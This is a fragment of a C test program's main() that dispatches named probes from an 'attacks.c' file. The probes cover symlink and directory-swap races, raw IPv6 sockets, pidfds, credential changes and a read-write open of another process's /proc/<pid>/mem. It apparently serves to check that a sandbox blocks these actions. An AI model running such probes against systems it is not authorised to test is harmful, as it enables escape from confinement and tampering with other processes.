    if (strcmp(argv[1], "reply-symlink") == 0 && argc == 7)
        return reply_symlink(atoi(argv[2]), argv[3], argv[4], argv[5], atoi(argv[6]));
    if (strcmp(argv[1], "drop-send") == 0 && argc == 4)
        return drop_send(atoi(argv[2]), atoi(argv[3]));
    if (strcmp(argv[1], "dirswap") == 0 && argc == 6)
        return dirswap(atoi(argv[2]), argv[3], argv[4], atoi(argv[5]));
    if (strcmp(argv[1], "portrange") == 0 && (argc == 4 || argc == 5))
        return portrange(argv[2], atoi(argv[3]), argc == 5 ? atoi(argv[4]) : 0);
    if (strcmp(argv[1], "raw6") == 0 && argc == 4)
        return raw6(atoi(argv[2]), atoi(argv[3]));
    if (strcmp(argv[1], "bigmmsg") == 0 && argc == 3)
        return bigmmsg(atoi(argv[2]));
    if (strcmp(argv[1], "pidfds") == 0 && argc == 5)
        return pidfds(atoi(argv[2]), argv[3], atoi(argv[4]));
    if (strcmp(argv[1], "replyflip") == 0 && argc == 4)
        return replyflip(atoi(argv[2]), atoi(argv[3]));
    if (strcmp(argv[1], "creds") == 0 && argc == 3)
        return creds(argv[2]);
    if (strcmp(argv[1], "procmem") == 0 && argc == 3) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%s/mem", argv[2]);
        int fd = open(path, O_RDWR);
        printf("open %d\n", fd < 0 ? -errno : 0);
        return 0;
    }
usage:
    fprintf(stderr, "usage: see the comment at the top of attacks.c\n");
    return 2;
}
